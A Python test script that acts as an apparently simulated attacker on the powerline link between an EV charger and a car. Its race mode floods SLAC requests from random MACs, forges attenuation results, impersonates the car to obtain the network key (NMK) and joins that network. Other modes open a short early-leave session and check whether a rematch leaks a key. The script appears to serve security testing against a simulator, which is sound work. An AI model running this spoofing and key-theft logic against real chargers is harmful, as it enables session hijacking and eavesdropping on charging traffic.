#!/usr/bin/env python3
"""An attacker station on the powerline (netns_attack.sh runs it in its own namespace on a `ccsplc plcsim` port)
against a charger and a car doing SLAC and charging. Modes:
  race IF OUT       from before the car's SLAC to its last sound: CM_SLAC_PARAM.REQ from random MACs at 10/s
                    (a flood that fills the charger's slots); a forged
                    CM_ATTEN_CHAR.IND at 0 dB toward the car, then it finishes the car's run as the car's MAC
                    (same RunID): ATTEN_CHAR.RSP and SLAC_MATCH.REQ until a CM_SLAC_MATCH.CNF comes. Writes
                    key=value lines (car, evse, run, nid, nmk, rogue) to OUT and joins that AVLN (CM_SET_KEY).
  leave CCSPLC IF EVCCID   an early leaver: SDP, SupportedAppProtocol + DIN SessionSetup as EVCCID, close.
  rematch IF CAR EVSE RUN  while the car charges: a whole SLAC run as the car's MAC with a new RunID, then
                    SLAC_MATCH.REQ on the car's RunID again; prints what came back; exit 0 when no answer
                    carried a key (no CM_SLAC_PARAM.CNF for the new run, no CM_SLAC_MATCH.CNF), 1 otherwise.
Frames are built with lib/hpgp_frames.py."""
import os
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib"))
import hpgp_frames as hp  # noqa: E402

FLOOD_INTERVAL = 0.1        # 10 CM_SLAC_PARAM.REQ per second
BATCH = 0.02                # TP_EV_batch_msg_interval
RESPONSE = 0.2              # TT_match_response


def race(ifname, out):
    link = hp.Link(ifname)
    rogue = hp.random_mac()
    car = run = evse = None
    print("race: listening", flush=True)
    floods, forged, next_flood, sounded = 0, 0, 0.0, False
    end = time.monotonic() + 60
    while not sounded and time.monotonic() < end:   # flood until the car's last sound; forge its results
        if time.monotonic() >= next_flood:
            link.send(hp.slac_param_req(hp.random_mac(), os.urandom(8)))
            floods += 1
            next_flood = time.monotonic() + FLOOD_INTERVAL
        r = link.recv(0.01)
        if not r:
            continue
        if r[2] == hp.SLAC_PARAM_REQ and car is None:   # the car's first CM_SLAC_PARAM.REQ (not one of ours)
            car, run = r[1], hp.at(r[4], 21, 8)
            print(f"race: car {hp.mac_text(car)} RunID {run.hex()} after {floods} flooded")
            end = time.monotonic() + 5
        if r[2] == hp.SLAC_PARAM_CNF:
            evse = r[1]   # the charger answers the flood too
        if car is None or r[1] != car:
            continue
        if r[2] == hp.START_ATTEN_CHAR_IND and not forged or r[2] == hp.MNBC_SOUND_IND and r[3][19] == 0:
            link.send(hp.atten_char_ind(car, rogue, car, run, 10, [0] * hp.NUM_GROUPS))
            forged += 1
        sounded = r[2] == hp.MNBC_SOUND_IND and r[3][19] == 0
    if not sounded:
        sys.exit("FAIL race: no car sounded")
    print(f"race: {floods} CM_SLAC_PARAM.REQ flooded, {forged} forged CM_ATTEN_CHAR.IND from {hp.mac_text(rogue)}")
    if evse is None:
        sys.exit("FAIL race: the charger answered none of the flood")
    got, tries, next_try = None, 0, 0.0
    end = time.monotonic() + 3
    while got is None and time.monotonic() < end:   # finish the car's run as the car, every 50 ms
        if time.monotonic() >= next_try:
            link.send(hp.atten_char_rsp(evse, car, run))
            link.send(hp.slac_match_req(evse, car, run))
            tries += 1
            next_try = time.monotonic() + 0.05
        r = link.recv(0.01)
        if r and r[2] == hp.SLAC_MATCH_CNF and r[0] == car:
            got = hp.match_cnf_fields(r[4])
    if got is None:
        sys.exit(f"FAIL race: no CM_SLAC_MATCH.CNF for the car's run ({tries} requests)")
    pev, evse, run_id, nid, nmk = got
    link.send(hp.set_key_req(link.mac, nmk, nid))   # join that AVLN with our own MAC
    text = "".join(f"{k}={v}\n" for k, v in (("car", hp.mac_text(pev)), ("evse", hp.mac_text(evse)),
                   ("run", run_id.hex()), ("nid", nid.hex()), ("nmk", nmk.hex()), ("rogue", hp.mac_text(rogue))))
    with open(out + ".tmp", "w") as f:
        f.write(text)
    os.rename(out + ".tmp", out)   # whole at once: the test acts on it at once
    print(f"race: the car's CM_SLAC_MATCH.CNF seen after {tries} requests as the car: NID {nid.hex()}")


def sdp(ifname, timeout=10.0):
    """The charger's V2GTP address and port from SDP (request: V2GTP 0x9000, no security, TCP)."""
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.settimeout(0.25)
    scope = socket.if_nametoindex(ifname)
    req = bytes([0x01, 0xFE]) + struct.pack(">HI", 0x9000, 2) + bytes([0x10, 0x00])
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        s.sendto(req, ("ff02::1", 15118, 0, scope))
        try:
            data = s.recv(64)
        except socket.timeout:
            continue
        if len(data) >= 28 and struct.unpack(">H", data[2:4])[0] == 0x9001:
            return socket.inet_ntop(socket.AF_INET6, data[8:24]), struct.unpack(">H", data[24:26])[0]
    sys.exit("FAIL leave: no SDP answer")


def leave(ccsplc, ifname, evccid):
    from v2g_peer import Peer
    addr, port = sdp(ifname)
    print(f"leave: charger at [{addr}]:{port}")
    p = Peer("leaver", ccsplc, ifname, addr, port)
    p.handshake()
    p.setup(evccid)
    p.close()


def rematch(ifname, car, evse, run):
    link = hp.Link(ifname)
    car, evse, run = hp.mac(car), hp.mac(evse), bytes.fromhex(run)
    new_run = os.urandom(8)
    frames = [hp.slac_param_req(car, new_run)] * 3
    frames += [hp.start_atten_char_ind(car, new_run)] * 3
    frames += [hp.mnbc_sound_ind(car, new_run, cnt) for cnt in range(9, -1, -1)]
    frames += [hp.atten_char_rsp(evse, car, new_run), hp.slac_match_req(evse, car, new_run)] * 3
    frames += [hp.atten_char_rsp(evse, car, run), hp.slac_match_req(evse, car, run)] * 3
    seen = {"param_cnf": 0, "atten_char_ind": 0, "match_cnf": 0}
    for i, f in enumerate(frames + [None] * 10):
        if f:
            link.send(f)
        end = time.monotonic() + (RESPONSE if i < 3 or i >= len(frames) - 12 else BATCH)
        while True:
            r = link.recv(max(0.0, end - time.monotonic()))
            if not r:
                break
            if r[0] != car or r[1] != evse:
                continue
            if r[2] == hp.SLAC_PARAM_CNF and hp.param_cnf_run_id(r[4]) == new_run:
                seen["param_cnf"] += 1
            elif r[2] == hp.ATTEN_CHAR_IND and hp.atten_char_run_id(r[4]) == new_run:
                seen["atten_char_ind"] += 1
            elif r[2] == hp.SLAC_MATCH_CNF:
                seen["match_cnf"] += 1
    print("rematch: " + " ".join(f"{k}={v}" for k, v in seen.items()))
    sys.exit(1 if seen["param_cnf"] or seen["match_cnf"] else 0)


if __name__ == "__main__":
    mode, args = sys.argv[1], sys.argv[2:]
    {"race": race, "leave": leave, "rematch": rematch}[mode](*args)
